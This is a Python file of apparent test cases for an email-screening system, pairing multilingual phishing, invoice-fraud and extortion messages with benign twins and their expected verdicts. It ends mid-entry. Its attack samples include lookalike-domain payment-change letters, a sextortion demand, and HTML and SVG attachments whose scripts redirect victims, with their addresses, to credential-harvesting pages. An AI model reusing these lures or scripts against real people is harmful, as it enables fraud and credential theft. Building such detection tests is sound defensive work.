"""The half of the second examiner's cases that nobody looks at who writes rules; its twin is second_examiner.py."""
from functools import partial

from ..authoring import Habit, Thread, business, grouped, iban, pair, side
from ..files import File
from ..places import MICROSOFT_US, place
from ..second_examiner_organizations import (ALBARIZA, ALON, BELLANDI, BEREHYNIA, BUZAVIRAG, CIGALES, ELAIONAS, FJORDTEATRET, HANEUL, JATI, KAARNA, KLONOWA,
                                               LASTOVICA, LYSBAKKEN, MAASMOND, MENEKSE, NAKHLA, PAYS, PODHRADI, RIVERTON, SAOBIEN, SERRA, SHOFUSO, TALLASEN,
                                               THEY, VALLFOSCA, WESERLAND, YUNLING, ZAMBET, idn)
from ..senders import bulk, cloud_notice, forged, free, hacked_site, notice, office, rented

known = partial(pair, "second-held-known")
strangers = partial(pair, "second-held-strangers")
everyday = partial(business, "second-held-business-known")
unknown = partial(business, "second-held-business-strangers")

# ---- Those whom the house knows, or who say so ----

KNOWN = [
    known("nl", MAASMOND, "disbursement in the name of the managers, rn for m",
          attack=side(rented("Capt. Nikos Rallis", "ops@heliosrnaritime.example", "LT"), "quarantine", "The domain is spelt with rn instead of m, and the account is one "
          "never seen.",
                      words={"account": grouped(iban("LT", "9990000051230047"))}),
          twin=side(THEY["helios"], "deliver", "Their own mailbox, and the account that stands in every letter.", words={"account": grouped(PAYS["helios"])}),
          to="accounts", subject="MV Aglaia – restitutie voorschot havenkosten", body="Goedemiddag,\n\nBij de afrekening van de vorige aanloop bleef € 11.362,40 van ons "
          "voorschot over. Wilt u dit bedrag terugstorten op {account} t.n.v. Helios Maritime S.A.? "
          "De eindafrekening hebben wij al geaccordeerd.\n\nMet vriendelijke groet,\n{me}\nHelios Maritime S.A."),
    known("de", WESERLAND, "Bankwechsel von einer Schwesterdomain",
          attack=side(rented("Anja Reuter", "a.reuter@steriplan-gruppe.example", "NL"), "quarantine", "A domain that SteriPlan has never used, and another account on the "
          "letter.",
                      files=(File("Mitteilung_Bankverbindung.pdf", "pdf", "SteriPlan GmbH\nNeue Bankverbindung ab 15.06.2026\nIBAN "
                      "" + grouped(iban("DE", "990503300044556677")) + "\nBitte aktualisieren Sie Ihre Stammdaten."),)),
          twin=side(THEY["steriplan"], "deliver", "From their own address; the letter repeats the account that was always there.",
                    files=(File("Mitteilung_Bankverbindung.pdf", "pdf", "SteriPlan GmbH\nUnsere Bankverbindung bleibt unverändert\nIBAN " + grouped(PAYS["steriplan"]) + "\n"
                    "Nur der Name der Bank ist neu."),)),
          to="kreditoren", subject="Mitteilung zu unserer Bankverbindung", body="Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unser Schreiben zur Bankverbindung mit "
          "der Bitte um Übernahme in Ihre Stammdaten. Offene Posten können Sie bereits entsprechend begleichen.\n\n"
          "Für Rückfragen stehe ich Ihnen per Mail gern zur Verfügung.\n\nFreundliche Grüße\nAnja Reuter\nDebitorenbuchhaltung"),
    known("es", ALBARIZA, "comisión del representante, buzón robado",
          attack=side(THEY["aldo"].but(at=MICROSOFT_US, reply_to="<aldo.benitez.repres@outlook.com>"), "quarantine", "His own mailbox, but answers go elsewhere and the "
          "account is in another country for the first time.",
                      words={"account": grouped(iban("LT", "9990100088123344"))}),
          twin=side(THEY["aldo"], "deliver", "His own mailbox, and the account of the last commission.", words={"account": grouped(PAYS["aldo"])}),
          to="tesoreria", subject="Comisión segundo plazo", body="Buenos días:\n\nComo quedamos con Julián, el segundo plazo de la comisión por la renovación vence el "
          "viernes: 18.500 € en {account}. Os mando la factura original por correo postal, pero agradecería que la transferencia saliera hoy.\n\nUn saludo,\nAldo Benítez"),
    known("da", LYSBAKKEN, "revisor deler årsregnskab",
          attack=side(rented("Mette Holm", "mho@holm-revislon.example", "NL"), "quarantine", "One letter of the auditor's domain is another, and the report lies on a page "
          "that asks for the password.",
                      words={"link": "https://holm-dokumenter.pages.dev/aarsregnskab/login"}),
          twin=side(THEY["revisor"], "deliver", "The auditor herself and the auditor's own site.", words={"link": "https://klient.holm-revision.example/aarsregnskab"}),
          to="k.dahl", subject="Årsregnskab 2025 til underskrift", body="Kære Kirsten\n\nÅrsregnskabet er nu klar til ledelsens underskrift. Log ind med din mailadresse, så "
          "åbner dokumentet:\n\n[Åbn årsregnskab]({link})\n\nVi skal gerne have det retur inden fredag.\n\nVenlig hilsen\nMette Holm"),
    known("fi", KAARNA, "kääntäjän nimi, toinen osoite",
          attack=side(free("Silja Koskela", "siljakoskela.kaannokset@outlook.com"), "junk", "A known translator's name on another mailbox, and the fee goes to another "
          "account."),
          twin=side(THEY["kaantaja"], "banner", "Her known mailbox; a careful office still asks back by telephone."),
          to="o.lahti", subject="Käännöspalkkio", body="Hei Olli!\n\nVaihdoin pankkia, joten voisitko laittaa kesäkuun käännöspalkkion tälle tilille: {account}. Viimeiset "
          "luvut tulevat perjantaina.\n\nTerveisin Silja",
          words={"account": grouped(iban("FI", "99907700114428"))}),
    known("cs", PODHRADI, "restaurátor posílá fotografie, ukradená schránka",
          attack=side(THEY["restaurator"].but(program="roundcube", name="Pavel Štěpánek"), "junk", "His true mailbox, but written with another program; a locked archive "
          "with its password beside it instead of the photographs.",
                      files=(File("oltar_foto.zip", "locked", "oltar_foto.exe"),), body="Dobrý den, pane Doležale,\n\nposílám slíbené fotografie oltáře a rozpočet na druhou "
                      "etapu. Archiv je kvůli pojišťovně zaheslovaný, heslo: 2026oltar. Prosím otevřete na počítači, v telefonu nejde.\n\nŠtěpánek"),
          twin=side(THEY["restaurator"], "deliver", "His mailbox, his program, a picture and a letter.",
                    files=(File("oltar_07.png", "png"), File("rozpocet.pdf", "pdf", "Rozpocet druhe etapy\nRetabulum 84 000 Kc")),
                    body="Dobrý den, pane Doležale,\n\nposílám slíbenou fotografii oltáře a rozpočet na druhou etapu. Zbytek fotek přivezu na disku ve čtvrtek.\n\nŠtěpánek"),
          to="v.dolezal", subject="Oltář – fotografie a rozpočet"),
    known("hu", BUZAVIRAG, "a könyvelő nevében, a válasz máshová megy",
          attack=side(forged("Szabó Ildikó", "ildiko@szabo-konyveles.example", country="RU", reply_to="<szabo.ildiko.konyveles@gmail.com>"), "quarantine", "Nothing proves "
          "the bookkeeper's address, and answers go to a free mailbox."),
          twin=side(THEY["konyvelo"], "deliver", "The bookkeeper's own, signed mailbox."),
          to="k.toth", subject="Hiányzó adatok a járulékbevalláshoz", body="Kedves Kati!\n\nA májusi járulékbevalláshoz kellene még a dolgozók adóazonosítója és "
          "bankszámlaszáma egy táblázatban. Ha ma délután el tudod küldeni, holnap beadom.\n\nKöszönöm,\nIldikó"),
    known("ro", ZAMBET, "subdomeniu nemaivăzut al furnizorului",
          attack=side(rented("Dentalia Distribuție", "facturare@plati.dentalia.example", "BG"), "quarantine", "A subdomain that never wrote, on a rented server, with "
          "another account.", words={"account": grouped(iban("RO", "ZZBK9990441277300015"))}),
          twin=side(THEY["dentalia"], "deliver", "The usual mailbox and the usual account.", words={"account": grouped(PAYS["dentalia"])}),
          to="m.ionescu", subject="Factură implanturi – scadență 15 iunie", body="Bună ziua,\n\nVă reamintim că factura pentru kiturile de implant, în valoare de 14.320 lei,"
          " are scadența pe 15 iunie. Plata se face în contul {account}, deschis pe numele Dentalia Distribuție.\n\nCu stimă,\nDepartamentul financiar"),
    known("el", ELAIONAS, "κλεμμένο γραμματοκιβώτιο συσκευαστή",
          attack=side(THEY["tinplate"].but(reply_to="<n.stavrou@stavrou-packagings.example>", program="roundcube"), "quarantine", "The true mailbox, but answers go to a "
          "domain with an s more, and the account is abroad.", words={"account": grouped(iban("PT", "999000000712345678901"))}),
          twin=side(THEY["tinplate"], "deliver", "The same letter with the account of the last invoices.", words={"account": grouped(PAYS["tinplate"])}),
          to="e.pappa", subject="Re: Δοχεία 5 λίτρων", thread=Thread(THEY["tinplate"], "e.pappa", "Δοχεία 5 λίτρων", ((12, "in"), (11, "out"), (4, "in"), (2, "out"))),
          body="Καλημέρα Ελένη,\n\nτα δοχεία είναι έτοιμα. Για να φορτώσουμε την Πέμπτη, βάλε σήμερα το υπόλοιπο των 6.240 € στον λογαριασμό {account} και στείλε μου το "
          "αποδεικτικό.\n\nΝίκος\n\n> Νίκο, περιμένουμε νέα για τη φόρτωση. Ελένη"),
    known("uk", BEREHYNIA, "художниця просить аванс на картку",
          attack=side(free("Олена Гнатюк", "olena.hnatiuk.arts@gmail.com", "iphone"), "junk", "One letter more than in the artist's known mailbox, and the money goes to a "
          "card."),
          twin=side(THEY["mytets"].but(program="iphone"), "banner", "Her known mailbox; a card number is still worth a call."),
          to="o.lysenko", subject="аванс", body="Оксано, доброго дня! Рами вже готові, але майстерня просить розрахуватися сьогодні. Чи можете перекинути аванс 22 000 грн "
          "на картку 4999 9910 2233 4411? Роботи привезу в понеділок, як домовлялися.\n\nОлена"),
    known("ja", SHOFUSO, "予約サイトを装った宿泊者の苦情",
          attack=side(rented("宿なび", "reserve@yadonavi-support.example", "SG", program="service"), "quarantine", "Not the domain from which every booking comes; the page "
          "asks for the extranet's password.", words={"link": "https://yadonavi-support.example/extranet/signin"}),
          twin=side(THEY["yoyaku"], "deliver", "The booking site itself.", words={"link": "https://extranet.yadonavi.example/messages/88412"}),
          to="mori", subject="【宿なび】宿泊者様からのお問い合わせ(予約番号 88412)", body="松風荘 ご担当者様\n\n6月18日ご宿泊予定のお客様から、アレルギー対応についてお問い合わせが届いております。24時間以内に管理画面からご回答ください。\n\n[管理画面を開く]({link})\n\n"
          "宿なび カスタマーセンター"),
    known("ko", HANEUL, "음향 외주사 도메인의 숫자 0",
          attack=side(rented("오민석", "minseok@s0ribang-sound.example", "HK"), "quarantine", "A nought in the partner's domain, and a new account.",
          words={"account": "999-771-004512"}),
          twin=side(THEY["sound"], "deliver", "The partner's mailbox and account.", words={"account": "999-204-118833"}),
          to="finance", subject="5월 음원 작업 대금", body="안녕하세요, 소리방 오민석입니다.\n\n5월 작업분 세금계산서 발행했습니다. 대금 4,180,000원은 {account} 계좌로 부탁드립니다. 이번 주 안에 처리되면 6월 작업 일정 바로 잡겠습니다.\n\n"
          "감사합니다."),
    known("ar", NAKHLA, "فاتورة صيانة من نطاق مشابه",
          attack=side(rented("خالد منصور", "khaled@mansour-siyanah.example", "NL"), "quarantine", "One letter more in the contractor's domain, and another account.",
          words={"account": grouped(iban("AE", "9980000045678901234"))}),
          twin=side(THEY["siyana"], "deliver", "The contractor's mailbox and the account that was always paid.", words={"account": grouped(PAYS["siyana"])}),
          to="n.farah", subject="فاتورة صيانة برج الواحة – مايو", body="السلام عليكم أستاذة نور،\n\nأرفق لكم فاتورة صيانة المصاعد لشهر مايو بمبلغ 27,450 درهماً. نرجو "
          "التحويل هذا الأسبوع إلى الحساب {account} باسم منصور للصيانة، وإرسال إشعار التحويل.\n\nمع التحية،\nخالد منصور"),
    known("vi", SAOBIEN, "kho lạnh đổi tài khoản, thư giả mạo",
          attack=side(forged("Trần Văn Hải", "hai.tran@donglanh-nambo.example", country="SG"), "quarantine", "Their address from a server that may not send for them; the "
          "account is a private person's.", words={"account": "0999 8877 6655, chủ tài khoản Nguyễn Quốc Bảo"}),
          twin=side(THEY["donglanh"], "deliver", "Signed as always, with the usual account.", words={"account": "0999 1122 3344"}),
          to="ketoan", subject="Phí lưu kho tháng 5", body="Kính gửi phòng kế toán,\n\nPhí lưu kho tháng 5 của quý công ty là 86.400.000 đồng. Vui lòng chuyển khoản trước "
          "thứ Sáu vào số tài khoản {account}. Hóa đơn đỏ chúng tôi gửi sau khi nhận tiền.\n\nTrân trọng,\nTrần Văn Hải"),
    known("ca", VALLFOSCA, "la directora i la transferència de l'autor",
          attack=side(free("Núria Puig", "nuria.puig.direccio@gmail.com", "iphone"), "quarantine", "The head's name on a stranger's mailbox, and a payment to come."),
          twin=side(VALLFOSCA.person("n.puig", program="iphone"), "deliver", "Her own address."),
          to="o.serra", subject="Pagament autor", body="Oriol, hauríem de pagar avui els 640 € de l'autor de dijous. Em dius si ho pots fer i et passo el compte? Soc en una "
          "reunió, contesta'm per aquí.\nNúria"),
    known("de", WESERLAND, "Kennwort läuft ab, im Namen des Ticketsystems",
          attack=side(rented("IT-Service Weserland", "weserland@ticketwerk-portal.example", "NL", program="service"), "quarantine", "The name of our help desk, but a domain "
          "that never sent a ticket, and a page for the password.", words={"link": "https://ticketwerk-portal.example/weserland/kennwort"}),
          twin=side(THEY["hotline"], "deliver", "The help desk's listed service, signed.", words={"link": "https://kennwort.klinikverbund-weserland.example/"}),
          to="k.petersen", subject="[WL-48812] Kennwort läuft am 15.06. ab", body="Hallo {full},\n\nIhr Kennwort für die Anmeldung an den Stationsrechnern läuft in drei "
          "Tagen ab. Bitte vergeben Sie vorher ein neues, danach ist die Anmeldung nur noch mit Freischaltung durch die Leitstelle möglich.\n\n[Kennwort ändern]({link})\n\n"
          "Ihr IT-Service"),
    known("en", MAASMOND, "cash to master",
          habits=(Habit(office("Master MV Aglaia", "master.aglaia@shipsat-mail.example", "GR", program="bare"), "r.smit", 14, 12, 6, "", "ETA notice #"),),
          attack=side(free("Master MV Aglaia", "mv.aglaia.master@gmail.com"), "junk", "The ship writes through its own satellite mail; a free mailbox asks for cash and a "
          "new man to take it."),
          twin=side(office("Master MV Aglaia", "master.aglaia@shipsat-mail.example", "GR", program="bare"), "deliver", "The ship's own address of many calls."),
          to="r.smit", subject="MV Aglaia // CTM Rotterdam", body="Good day Mr Smit,\n\nETA pilot station 13th 0600 LT agw. Please arrange CTM USD 18,000 on arrival, notes "
          "of 100 and 50, to be handed to 2/O who will come to the gate with the crew list. "
          "Charge to owners as usual. Kindly confirm by return.\n\nB.rgds\nMaster"),
    known("fr", CIGALES, "domaine sœur du bouchonnier",
          attack=side(rented("Bouchons Castel-Viel", "comptabilite@castel-viel-export.example", "LT"), "quarantine", "A domain that the cork maker never used, and a new "
          "account.", words={"account": grouped(iban("FR", "99907000330088112299470"))}),
          twin=side(THEY["bouchon"], "deliver", "The usual mailbox, the usual account.", words={"account": grouped(PAYS["castelviel"])}),
          to="compta", subject="Relevé de compte au 31 mai", body="Madame, Monsieur,\n\nNotre relevé laisse apparaître un solde de 3 216,40 € en notre faveur. Merci d'en "
          "faire le virement sous huitaine sur le compte {account}.\n\nBien cordialement,\nService comptabilité\nBouchons Castel-Viel"),
    known("es", ALBARIZA, "la taquilla pide validar la cuenta de cobro",
          attack=side(rented("TaquillaClub", "avisos@taquilla-club.example", "NL", program="service"), "quarantine", "A hyphen that the ticket office does not have, and a "
          "page for the password.", words={"link": "https://taquilla-club.example/validar"}),
          twin=side(THEY["entradas"], "deliver", "The ticket office itself.", words={"link": "https://panel.taquillaclub.example/liquidaciones"}),
          to="e.vega", subject="Liquidación retenida: confirma los datos de cobro", body="Hola, {first}:\n\nLa liquidación de abonos de mayo (41.280 €) está lista, pero no "
          "podremos emitirla hasta que confirmes los datos de cobro del club.\n\n[Confirmar datos]({link})\n\nEquipo TaquillaClub"),
    known("sv", TALLASEN, "genom en lista och utan",
          attack=side(forged("Eva Lundell", "eva.lundell@region-nordskog.example", country="LT"), "quarantine", "Her address without any signature, from a rented server, "
          "and the paper lies on a page for passwords.", words={"link": "https://samrad-dokument.example/logga-in"}),
          twin=side(THEY["region"].but(at=place("lists.samverkan-norr.example", 65540, "SE"), mail_from="samrad-bounces@lists.samverkan-norr.example",
          dkim=(("region-nordskog.example", "fail"), ("lists.samverkan-norr.example", "pass")), dmarc="fail", arc="pass", sealer="samverkan-norr.example"),
                    "deliver", "The list of years breaks her signature, as it always does, and vouches for "
                    "her.", words={"link": "https://www.region-nordskog.example/samrad/juni"},
                    habits=(Habit(THEY["region"].but(at=place("lists.samverkan-norr.example", 65540, "SE"), dkim=(("lists.samverkan-norr.example", "pass"),),
                    dmarc="fail"), "l.ekstrom", 8, 0, 9, "", "[samråd] #"),),
                    fields=(("List-Id", "Samråd norr <samrad.lists.samverkan-norr.example>"), ("List-Post", "<mailto:samrad@lists.samverkan-norr.example>"))),
          to="l.ekstrom", subject="[samråd] Underlag inför mötet den 16 juni", body="Hej alla,\n\nUnderlaget till samrådet ligger nu här:\n\n[Öppna underlaget]({link})\n\n"
          "Läs gärna avsnitt 3 om hemtjänstresorna före mötet.\n\nEva Lundell\nRegion Nordskog"),
    known("fi", KAARNA, "suojattu paketti kirjapainolta",
          attack=side(rented("Timo Rantala", "timo.rantala@rantalankirjapaino.example", "BG", program="outlook"), "quarantine", "The hyphen is missing in the printer's "
          "domain; a locked archive with its password.",
                      files=(File("vedokset_0612.zip", "locked", "vedos.js"),), words={"more": "Paketti on suojattu, salasana on 0612."}),
          twin=side(THEY["paino"], "deliver", "The printer's own domain and a PDF.", files=(File("vedokset_0612.pdf", "pdf", "Kansi ja selka\nTarkista varit"),),
          words={"more": "Tarkista erityisesti kannen värit."}),
          to="m.salo", subject="Vedokset hyväksyttäväksi", body="Hei Minna,\n\nliitteenä syksyn esikoisromaanin vedokset. {more} Kun saan kuittauksen tänään, painamme "
          "huomisaamuna.\n\nTimo Rantala"),
    known("de", WESERLAND, "Seelsorger in Not, Postfach gestohlen",
          attack=side(THEY["pfarrer"].but(reply_to="<ernst.lohmann.seelsorge@proton.me>", program="roundcube"), "junk", "His true mailbox, but answers go elsewhere and he "
          "asks for a favour with cards of money.",
                      body="Lieber Kai,\n\nich brauche deine Hilfe bei einer etwas heiklen Sache und kann gerade nicht telefonieren. Ein Gemeindemitglied auf der "
                      "Palliativstation wünscht sich Guthabenkarten, und ich komme nicht in ein Geschäft. Kannst du das heute übernehmen? Ich zahle es dir am Montag "
                      "zurück.\n\nErnst"),
          twin=side(THEY["pfarrer"], "deliver", "His mailbox, his program, and only a date.",
                    body="Lieber Kai,\n\nich brauche deine Hilfe: Am Sonntag kann ich die Andacht nicht halten, da ich bei meiner Schwester in Graz bin. Kann die Kapelle am "
                    "Mittwoch um 17 Uhr offen sein? Ich telefoniere ungern von unterwegs, schreib einfach.\n\nErnst"),
          to="k.petersen", subject="Eine Bitte"),
    known("nb", FJORDTEATRET, "kollega ber om mobilnummer",
          attack=side(free("Ingunn Solberg", "ingunn.solberg.teatersjef@gmail.com", "iphone"), "junk", "The head's name on an unknown mailbox; the talk is to move to a "
          "telephone."),
          twin=side(FJORDTEATRET.person("i.solberg", program="iphone"), "deliver", "Her own address."),
          to="p.berge", subject="Per?", body="Hei Per, har du et øyeblikk? Sitter i møte og trenger hjelp med en liten ting. Send meg mobilnummeret ditt, så tekster jeg "
          "deg.\n\nIngunn"),
    known("en", YUNLING, "a trader's domain with a letter that has no dot",
          attack=side(rented("Daniel Ong", "daniel@" + idn("onglim-trad\u0131ng"), "SG"), "quarantine", "An i without its dot makes another domain of it, and the account is "
          "new.", words={"account": "DBX Bank Singapore, account 999-440-7712-8, SWIFT DBXXSGSG"}),
          twin=side(THEY["maoyi"], "deliver", "The trader's own domain; the order goes as always.", words={"account": "the account in our master agreement"}),
          to="linfeng", subject="Pu'er lot 26-114, deposit", body="Dear Mr Lin,\n\nSamples approved, please reserve all 640 kg. Before our treasurer releases the deposit "
          "she asks you to return last year's over-payment of USD 3,915 to {account}. After that she will release 30 percent the same day.\n\nBest regards,\nDaniel Ong"),
]

# ---- Strangers ----

STRANGERS = [
    strangers("de", WESERLAND, "Dokument zur Unterschrift",
          attack=side(rented("DocuSign", "dse@esign-zustellung.example", "NL", program="service"), "quarantine", "DocuSign's name on a rented domain, and the button leads "
          "there.", words={"link": "https://esign-zustellung.example/d/signing?e={to}"}),
          twin=side(cloud_notice("Immo Nord über DocuSign", "dse_eu1@eumail.docusign.net"), "deliver", "DocuSign's own domain and site.",
          words={"link": "https://eu.docusign.net/Signing/EmailStart.aspx?a=771204ab"}),
          to="u.brinkmann", subject="Bitte unterzeichnen: Nachtrag Mietvertrag MVZ.pdf", body="# Sie haben ein Dokument zum Unterzeichnen erhalten\n\nImmo Nord Verwaltung "
          "hat Ihnen „Nachtrag Mietvertrag MVZ.pdf“ gesendet.\n\n[Dokument prüfen]({link})\n\nBitte leiten Sie diese E-Mail nicht weiter."),
    strangers("it", BELLANDI, "fattura non pagata",
          attack=side(free("Amministrazione Energia", "fatture.recupero.0612@outlook.com"), "junk", "A company that writes from a free mailbox, no name, no contract number, "
          "and the invoice is a web page.",
                      files=(File("Fattura_0612.html", "html", "<html><script>var "
                      "d=atob('aHR0cHM6Ly9mYXR0dXJlLWNsb3VkLmV4YW1wbGUvbG9naW4=');location.href=d+'?u=<<to>>';</script><body>Caricamento...</body></html>"),)),
          twin=side(office("Modena Energia Uffici", "clienti@modena-energia-uffici.example", "IT"), "deliver", "A company with its own domain, contract number and PDF.",
                    body="Gentile cliente,\n\nla fattura di maggio del contratto n. 7740-18 (via Farini 9) è in allegato. Scade il 30 giugno e verrà addebitata come di "
                    "consueto.\n\nCordiali saluti\nModena Energia Uffici S.r.l.\nP.IVA 03551200361",
                    files=(File("Fattura_7740-18.pdf", "pdf", "Modena Energia Uffici\nContratto 7740-18\nTotale 214,80 euro"),)),
          to="segreteria", subject="Fattura di maggio", body="Gentile cliente,\n\nla fattura di maggio risulta non pagata. In allegato il documento con le modalità di "
          "pagamento; si apre con le credenziali della sua posta.\n\nCordiali saluti\nUfficio Amministrazione"),
    strangers("nl", MAASMOND, "bel ons over uw abonnement",
          attack=side(free("PayPal Klantenservice", "factuur.dienst.88214@gmail.com"), "junk", "PayPal's name on a free mailbox, an amount nobody spent and a number to call."),
          twin=side(bulk("Kantoorwinkel De Punt", "bestelling@kantoorwinkeldepunt.example"), "deliver", "A small shop's own domain confirms what was ordered; a number for "
          "questions.",
                    body="Beste Wendy,\n\nBedankt voor je bestelling van vandaag: 4 bureaustoelen, € 489,00, op rekening. Levering dinsdag tussen 9 en 12 uur.\n\nVragen? "
                    "Bel 010 555 0144, op werkdagen.\n\nKantoorwinkel De Punt"),
          to="w.jansen", subject="Bevestiging van uw bestelling € 489,00", body="Geachte klant,\n\nUw betaling van € 489,00 voor Bitcoin (BTC) is verwerkt en wordt binnen "
          "24 uur afgeschreven. Heeft u deze bestelling niet gedaan? Bel dan direct onze fraudeafdeling: 085 555 0199.\n\nPayPal Klantenservice"),
    strangers("sv", TALLASEN, "utpressning och en varning",
          attack=side(rented("säkerhet", "k4471@mailvakt-nord.example", "RU", program="bare"), "quarantine", "Money for silence.",
                      body="Hej. Jag har haft tillgång till din dator i några månader och spelat in dig med kameran. Jag har också dina kontakter. För 1 200 euro i bitcoin "
                      "till bc1q0m9examplexw4k7s2d raderar jag allt. Du har 48 timmar från det att du öppnat detta. Svara inte, adressen läses inte."),
          twin=side(free("Ellinor Frid", "ellinor.frid.infosak@proton.me", "thunderbird"), "deliver", "A researcher tells of a leak, wants nothing, says who she is.",
                    body="Hej,\n\nJag forskar om informationssäkerhet vid en högskola och såg att en mapp med bygglovsritningar på er webbplats går att lista utan "
                    "inloggning. Jag har inte laddat ned något. Vem hos er kan jag prata med? Jag vill ingenting ha för detta.\n\nEllinor Frid, tel. 070-555 01 22"),
          to="kommun", subject="Viktigt om din dator"),
    strangers("en", HANEUL, "voice message with an SVG",
          attack=side(hacked_site("Voicemail (haneulsoft)", "admin@cedar-dental.example"), "quarantine", "A dentist's broken site speaks as our switchboard, and the message "
          "is a drawing with a script.",
                      files=(File("Voice_0m41s.svg", "svg", "<svg "
                      "xmlns='http://www.w3.org/2000/svg'><script><![CDATA[window.location='https://cedar-dental.example/v/?'+btoa('{to}')]]></script></svg>"),)),
          twin=side(notice("Nuri Phone", "voicemail@nuriphone.example", "KR"), "deliver", "A telephone provider's own domain, and the message is on its own site.",
                    body="You have a new voice message.\n\nCaller: +82 2 555 0148\nLength: 0 min 41 s\nReceived: 10:12\n\nListen in the app, or by calling 1588-0000 from "
                    "your desk phone.\n\nNuri Phone"),
          to="hyunwoo.lee", subject="New voice message (0:41)", body="You have a new voice message.\n\nCaller: +82 2 555 0148\nLength: 0 min 41 s\nReceived: 10:12\n\nOpen "
          "the attachment to listen. It will be deleted after 24 hours."),
    strangers("ja", SHOFUSO, "ETCカードの利用停止",
          attack=side(rented("ETC利用照会サービス", "info@etc-meisai-kakunin.example", "HK", program="service"), "quarantine", "The toll service's name on a rented domain, and a "
          "page for the card.", words={"link": "https://etc-meisai-kakunin.example/login"}),
          twin=side(office("丹沢観光バス", "haisha@tanzawa-bus.example", "JP"), "deliver", "A bus firm with its own name asks about a group; tolls are only mentioned.",
                    subject="ETC料金を含むお見積りについて", body="松風荘 ご担当者様\n\n初めてご連絡いたします。丹沢観光バスの配車担当です。7月4日にそちらへお泊まりの団体様を送迎いたします。ETC料金込みのお見積りを旅行会社様へ提出しますので、大型バス2台の駐車が可能かご返信ください。\n\n"
                    "丹沢観光バス 配車係 電話 0463-55-0101"),
          to="keiri", subject="【重要】ETCサービス一時停止のお知らせ", body="平素よりETC利用照会サービスをご利用いただきありがとうございます。\n\nお客様のカード情報の有効期限が確認できないため、サービスを一時停止いたしました。24時間以内に下記より情報を更新してください。\n\n"
          "[情報を更新する]({link})\n\nETC利用照会サービス事務局"),
    strangers("ko", HANEUL, "세금계산서 발행 안내",
          attack=side(rented("국세청 홈택스", "etax@hometax-bill.example", "SG", program="service"), "quarantine", "The tax office's name on a rented domain, and the invoice is a "
          "page for the portal's password.",
                      files=(File("전자세금계산서.html", "html", "<html><body><form action='https://hometax-bill.example/l.php'>아이디 <input name=i value='<<to>>'> 비밀번호 <input "
                      "type=password name=p></form></body></html>"),)),
          twin=side(office("정하늘", "haneul.jung@podo-print.example", "KR"), "deliver", "A print shop sends its first invoice as a PDF and says what for.",
                    body="안녕하세요, 포도인쇄 정하늘입니다.\n\n지난주 주문하신 명함 500매 전자세금계산서를 발행해 드렸습니다. 확인용 PDF를 첨부합니다. 월말에 결제 부탁드립니다.\n\n감사합니다.",
                    files=(File("invoice_0612.pdf", "pdf", "Podo Print\nInvoice 0612\nKRW 66,000"),)),
          to="finance", subject="전자세금계산서가 발행되었습니다", body="전자세금계산서가 발행되었습니다.\n\n공급자: 한솔유통\n금액: 3,520,000원\n첨부 파일을 열어 확인하시고 이의가 있으면 오늘 중 처리하시기 바랍니다.\n\n국세청 홈택스"),
    strangers("cs", PODHRADI, "QR kód pro nové ověření",
          attack=side(rented("Podpora Microsoft", "podpora@overeni-uctu-365.example", "NL", program="service"), "quarantine", "Microsoft's name on a rented domain; a code "
          "that leads there keeps the link from being read.",
                      files=(File("Overeni.pdf", "pdf", "Obnova overeni\nNaskenujte kod telefonem"), File("kod.png", "qr", "https://overeni-uctu-365.example/mfa?u={to}",
                      cid="kod"))),
          twin=side(office("Noc kostelů", "koordinace@nockostelu-podhradi.example", "CZ"), "deliver", "A parish's event, and the code leads to its own site.",
          subject="Noc kostelů: plakát s QR kódem",
                    body="Dobrý den,\n\nposíláme plakát k Noci kostelů. QR kód vede na program na našich stránkách, mohli byste ho vyvěsit v muzeu? Děkujeme.\n\nZa "
                    "přípravný tým\nMarie Jurková",
                    files=(File("kod.png", "qr", "https://www.nockostelu-podhradi.example/program", cid="kod"),)),
          to="e.krizova", subject="Platnost vícefázového ověření končí", body="Vážená paní,\n\nplatnost vašeho vícefázového ověření pro {to} končí dnes. Naskenujte kód "
          "telefonem a obnovte je, jinak bude přístup k poště pozastaven.\n\nPodpora Microsoft 365"),
    strangers("el", ELAIONAS, "επιστροφή ασφαλιστικών εισφορών",
          attack=side(hacked_site("e-ΕΦΚΑ", "info@taverna-kymata.example"), "quarantine", "The health insurance's name, a tavern's broken site, and a card for a refund.",
          words={"link": "https://taverna-kymata.example/efka/epistrofi"}),
          twin=side(office("Ασφάλειες Ρούσσος", "info@roussos-asfaleies.example", "GR"), "deliver", "A broker with a name and a place offers a talk.",
                    body="Καλησπέρα σας,\n\nείμαι ο Πέτρος Ρούσσος, ασφαλιστής στην Καλαμάτα. Συνεργάζομαι με δύο συνεταιρισμούς της περιοχής για ομαδικά συμβόλαια υγείας. "
                    "Αν σας ενδιαφέρει, περνάω από το γραφείο σας για έναν καφέ.\n\nΠέτρος Ρούσσος, τηλ. 27210 55512"),
          to="logistirio", subject="Ασφαλιστικές εισφορές", body="Αγαπητέ ασφαλισμένε,\n\nαπό την εκκαθάριση των εισφορών προέκυψε επιστροφή 312,40 €. Συμπληρώστε τα "
          "στοιχεία της κάρτας σας έως τις 14 Ιουνίου για να πιστωθεί το ποσό.\n\n[Αίτηση επιστροφής]({link})\n\ne-ΕΦΚΑ"),
    strangers("ar", NAKHLA, "طلب عرض سعر بملف مقفل",
          attack=side(rented("Procurement Dept", "tenders@al-rimal-group.example", "NG", reply_to="<alrimal.tenders@outlook.com>"), "quarantine", "A stranger's order in a "
          "locked archive with its password beside it, and answers to a free mailbox.",
                      files=(File("RFQ_2206.zip", "locked", "RFQ_2206.pdf.exe"),), words={"more": "الملف محمي بكلمة المرور 2206، يرجى فتحه على جهاز الكمبيوتر."}),
          twin=side(office("محمود درويش", "mahmoud@wahat-furniture.example", "AE"), "deliver", "A stranger's question with a plain PDF and his own address.",
          files=(File("RFQ_2206.pdf", "pdf", "Request for quotation 2206\n12 furnished units"),), words={"more": "التفاصيل في الملف المرفق."}),
          to="n.farah", subject="طلب عرض سعر رقم 2206", body="السادة المحترمون،\n\nنرغب في استئجار 12 وحدة مفروشة لموظفينا لمدة عام. {more} نأمل موافاتنا بعرضكم قبل يوم "
          "الأحد.\n\nمع التقدير"),
    strangers("fi", KAARNA, "jaettu tiedosto tuntemattomalta",
          attack=side(hacked_site("SharePoint", "noreply@saunakauppa-loyly.example"), "quarantine", "Microsoft's name, a sauna shop's broken site, and a sign-in there.",
          words={"link": "https://saunakauppa-loyly.example/sp/avaa?{to}"}),
          twin=side(notice("Aino Mattila (SharePoint)", "no-reply@sharepointonline.com"), "deliver", "Microsoft's own domain, and the file lies at Microsoft.",
